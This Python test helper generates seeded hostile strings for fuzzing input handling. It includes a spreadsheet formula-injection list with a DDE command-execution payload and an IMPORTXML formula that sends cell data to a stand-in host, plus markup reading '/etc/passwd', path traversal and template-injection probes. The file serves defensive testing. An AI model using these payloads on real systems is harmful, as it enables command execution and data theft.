"""Hostile strings, the same for the same seed: formulas, markup, control and direction characters, rare signs."""

import random
import unicodedata

FORMULAS = (
    '=HYPERLINK("http://x.invalid","y")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "＝1+1", "＋1", "－1", "＠A1", "=cmd|' /C calc'!A0", "'=1+1", '"=1+1"', ";=1+1", ",=1",
    "=IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")", "=DDE(\"a\";\"b\")", "_x000D_=1", "_x0041_",
)  # fmt: skip
MARKUP = (
    "<b>x</b>", "<img src='file:///etc/passwd'/>", "<img src='http://x.invalid/a.png'>",
    "<a href='http://x.invalid'>x</a>", "<para>&nbsp;</para>", "&lt;&amp;#60;", "]]>", "<!-- -->",
    "<onDraw name='x'/>", "{{7*7}}", "${7*7}", "%s %(x)s", "<?xml version='1.0'?>", "../../etc/passwd",
)  # fmt: skip
NAMES = (
    "张伟明", "欧阳契", "阿卜杜拉·买买提", "Søren Ødegård", "Nguyễn Văn Á", "𠮷田", "㛃", "龘", "𬭩",
    "محمد", "שלום", "👩‍👩‍👧‍👦🏳️‍🌈", "ｆｕｌｌ　ｗｉｄｔｈ", "e\u0301", "ﬁ", "Ⅷ①㎡℃￥",
)  # fmt: skip
INVISIBLE = (
    "\u202e", "\u2066", "\u2069", "\u200f", "\u200b", "\u200d", "\ufeff", "\u2028", "\u2029", "\u00ad", "\u00a0",
)  # fmt: skip
CONTROL = tuple(map(chr, [*range(32), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF, 0xD800, 0xDFFF]))
PLAIN = "　 ,;:\"'\\/|()[]{}<>&%$#@!?*+-=~^_`0123456789abcXYZ物业服务中心，。！￥"


def strings(count: int, *, seed: int, control: bool = True) -> list[str]:
    """So many strings of 1 to about 60 characters; without `control`, what a form would let through."""
    rng = random.Random(seed)  # the same strings each time, no secret
    made = [*FORMULAS, *MARKUP, *NAMES]
    pieces = (*made, *INVISIBLE, *(CONTROL if control else ()))
    while len(made) < count:
        parts = [rng.choice(pieces) for _ in range(rng.randint(1, 4))]
        parts.insert(
            rng.randrange(len(parts) + 1), "".join(rng.choices(PLAIN, k=rng.randint(0, 9)))
        )
        made.append("".join(parts)[:60])
    return [each for each in made[:count] if control or _is_typed(each)]


def _is_typed(text: str) -> bool:
    return all(unicodedata.category(each) not in ("Cc", "Cs", "Cn", "Co") for each in text)
